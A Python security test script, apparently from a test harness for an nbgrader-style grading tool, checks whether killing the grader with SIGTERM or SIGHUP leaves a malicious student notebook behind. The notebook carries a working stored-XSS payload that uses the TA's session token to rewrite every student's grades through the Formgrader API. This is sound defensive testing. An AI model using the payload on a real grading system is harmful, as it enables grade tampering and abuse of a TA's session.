"""a04: the grader itself ended by SIGTERM or SIGHUP (the TA's `kill`, a closed terminal or ssh session, a CI job's
cancel, `timeout`) while mallory is graded. grade.py handles KeyboardInterrupt only (abandon -> drop_unfinished); on
SIGTERM/SIGHUP Python exits at once, its fork server's children die with it, and nothing removes nbgrader's first pass.
mallory: a02's hand-in (W1 with <img onerror> using Formgrader's REST API as the TA; a quiz cell that sleeps 100 s, which
makes her own grading the long part of the run, the likely place for any stop to land). Controls aaron, zoe.
Usage: a04_grader_terminated.py TERM|HUP"""
import signal, sqlite3, sys, time
sys.path.insert(0, __import__("os").path.dirname(__import__("os").path.abspath(__file__)))
from harness import *

SIG = getattr(signal, "SIG" + (sys.argv[1] if len(sys.argv) > 1 else "TERM"))
XSS = '<img src=x onerror="(async()=>{const x=document.cookie.match(/_xsrf=([^;]+)/);const h={\'X-XSRFToken\':x?decodeURIComponent(x[1]):\'\',\'Content-Type\':\'application/json\'};const subs=await (await fetch(\'/formgrader/api/submitted_notebooks/ps1_memory/ps1_memory\')).json();let n=0;for(const s of subs){const gs=await (await fetch(\'/formgrader/api/grades?submission_id=\'+s.id)).json();for(const g of gs){g.manual_score=(s.student===\'mallory\')?g.max_score:0;const r=await fetch(\'/formgrader/api/grade/\'+g.id,{method:\'PUT\',headers:h,body:JSON.stringify(g)});n+=r.ok?1:0;}}window.PWNED=n})()">'
m = honest()
for c in m.cells:
    g = c.metadata.get("nbgrader", {}).get("grade_id")
    if g == "written_ddp_fit":
        c.source = "My answer. " + XSS
    if g == "quiz_q1":
        c.source = "import time\ntime.sleep(100)\n" + c.source
tag = "a04" + sys.argv[1].lower() if len(sys.argv) > 1 else "a04"
d = course(tag)
handin(d, "aaron", honest()); handin(d, "mallory", m); handin(d, "zoe", honest())
chown(d)
env = dict(os.environ, DATABASE_URL="postgresql://ta:secret@localhost/x", AWS_SECRET_ACCESS_KEY="AKIASECRETCANARY123", HOME="/tmp")
proc = subprocess.Popen(["setpriv", "--reuid", "65534", "--regid", "65534", "--clear-groups", PY, "-m", "grader.grade",
                         "--course-dir", d, "--workers", "1", A], cwd=CLONE, env=env, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
p = f"{d}/autograded/mallory/{A}/{A}.ipynb"
t0 = time.time()
while not os.path.exists(p) and time.time() - t0 < 300:
    time.sleep(0.5)
time.sleep(10)  # mallory's kernel is in its 100-s cell
# the grade command: setpriv execs python, so proc.pid is the grader's own process
print(f"t={time.time()-t0:.1f}s sending {SIG!r} to the grader (pid {proc.pid})")
os.kill(proc.pid, SIG)
out, _ = proc.communicate(timeout=120)
print("grader exit:", proc.returncode, "| output tail:", out[-1500:])
time.sleep(5)
left = subprocess.run("ps -u 65534 -o pid,cmd | grep -v ' ps ' | head -20", shell=True, capture_output=True, text=True).stdout
print("processes of uid 65534 left:", left)
print("mallory's autograded notebook left:", os.path.exists(p), "files:", os.listdir(os.path.dirname(p)) if os.path.isdir(os.path.dirname(p)) else None)
if os.path.exists(p):
    s = open(p).read(); print("raw <img onerror> in it:", "onerror=" in s and "<img" in s)
db = sqlite3.connect(f"{d}/gradebook.db")
print("gradebook submissions:", db.execute("select sa.student_id from submitted_assignment sa").fetchall())
scores(d)
from browser_fg import open_formgrader
def ta(page, url):
    time.sleep(6)
    return page.evaluate("() => ({grades_written_as_the_TA: window.PWNED || 0})")
print("the TA opens mallory's page in Formgrader (before running the grader again):", open_formgrader(d, "mallory", ta))
scores(d)
